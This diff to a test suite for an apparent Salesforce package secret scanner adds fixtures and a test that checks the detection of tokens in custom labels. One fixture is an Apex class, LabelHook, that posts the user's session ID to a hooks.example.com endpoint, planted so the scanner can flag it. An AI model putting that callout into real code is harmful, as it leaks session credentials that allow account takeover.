@@ -129,6 +129,28 @@ WORKFLOW = f"""<?xml version="1.0" encoding="UTF-8"?>
     <broken attr="{TOKEN}"
 </Workflow>
 """
+# A custom label whose packaged value holds the token, and a callout built from it: the SID002
+# message names the label and its packaged value (analyses/endpoints.py, `describe_labels`)
+LABELS = f"""<?xml version="1.0" encoding="UTF-8"?>
+<CustomLabels xmlns="http://soap.sforce.com/2006/04/metadata">
+    <labels>
+        <fullName>Keyed_Hook</fullName>
+        <language>en_US</language>
+        <protected>false</protected>
+        <shortDescription>Keyed hook</shortDescription>
+        <value>https://hooks.example.com/in?key={TOKEN}</value>
+    </labels>
+</CustomLabels>
+"""
+LABEL_CALLOUT = """public with sharing class LabelHook {
+    public static void push() {
+        HttpRequest req = new HttpRequest();
+        req.setEndpoint(Label.Keyed_Hook + '&v=1');
+        req.setHeader('X-Session', UserInfo.getSessionId());
+        new Http().send(req);
+    }
+}
+"""
 LATIN1_TRIGGER = f"trigger Latin on Account (after insert) {{ String s = 'é{TOKEN}'; }}\n"
 OBJECT = f"""<?xml version="1.0" encoding="UTF-8"?>
 <CustomObject xmlns="http://soap.sforce.com/2006/04/metadata">
@@ -185,6 +207,8 @@ def _contents_package(root: Path) -> Path:
         f"{SFDX_SOURCE}/staticresources/leaky.js": SCRIPT.encode(),
         f"{SFDX_SOURCE}/workflows/Account.workflow-meta.xml": WORKFLOW.encode(),
         f"{SFDX_SOURCE}/objects/Account/Account.object-meta.xml": OBJECT.encode(),
+        f"{SFDX_SOURCE}/labels/CustomLabels.labels-meta.xml": LABELS.encode(),
+        f"{SFDX_SOURCE}/classes/LabelHook.cls": LABEL_CALLOUT.encode(),
         **{rel: text.encode("latin-1" if rel.endswith(".txt") else "utf-8") for rel, text in TEXT_FILES.items()},
         **RESOURCES,
     }, namespace="acme")
@@ -248,6 +272,16 @@ def test_the_planted_tokens_are_found_in_files_of_every_kind(contents_dir: Path)
     planted = {f"pkg/{rel}" for rel, text in TEXT_FILES.items() if TOKEN in text}
     planted |= {f"pkg/{rel}" for rel in RESOURCES if not rel.endswith("-meta.xml")}
     assert planted <= found, f"no SID009 in {sorted(planted - found)}"
+
+
+def test_a_token_in_a_custom_labels_value_is_found_and_its_export_names_the_label(contents_dir: Path) -> None:
+    """So that every format's search for the secret covers a message quoting a label's packaged value."""
+    report = json.loads(_outputs(contents_dir, "json")["report"])
+    assert f"pkg/{SFDX_SOURCE}/labels/CustomLabels.labels-meta.xml" in {
+        f["path"] for f in report["findings"] if f["ruleId"] == "SID009"}
+    exports = [f["message"] for f in report["findings"]
+               if f["ruleId"] == "SID002" and f["path"].endswith("LabelHook.cls")]
+    assert exports and "custom label Keyed_Hook (packaged value 'https://hooks.example.com/in?key=00D5g" in exports[0]
 
 
 def test_the_planted_tokens_in_comments_are_found(contents_dir: Path) -> None:
